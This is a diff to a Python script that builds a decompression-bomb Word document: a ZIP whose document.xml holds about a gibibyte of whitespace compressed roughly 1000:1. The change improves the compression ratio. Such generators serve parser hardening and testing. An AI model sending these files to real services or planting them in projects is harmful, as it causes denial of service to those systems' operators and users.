@@ -5,12 +5,11 @@ import zipfile
 
 path = sys.argv[1]
 mebibytes = int(sys.argv[2]) if len(sys.argv) > 2 else 1024
-run = b"<w:p><w:r><w:t>" + "同志们".encode() * 40 + b"</w:t></w:r></w:p>"
-chunk = run * (1_048_576 // len(run))
+chunk = b" " * 1_048_576  # white space between elements: deflate's best ratio, about 1000:1
 with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
     archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
     with archive.open("word/document.xml", "w", force_zip64=True) as part:
-        part.write(b'<?xml version="1.0"?><w:document><w:body>')
+        part.write(b'<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>')
         for _ in range(mebibytes):
             part.write(chunk)
-        part.write(b"</w:body></w:document>")
+        part.write(b"</w:t></w:r></w:p></w:body></w:document>")
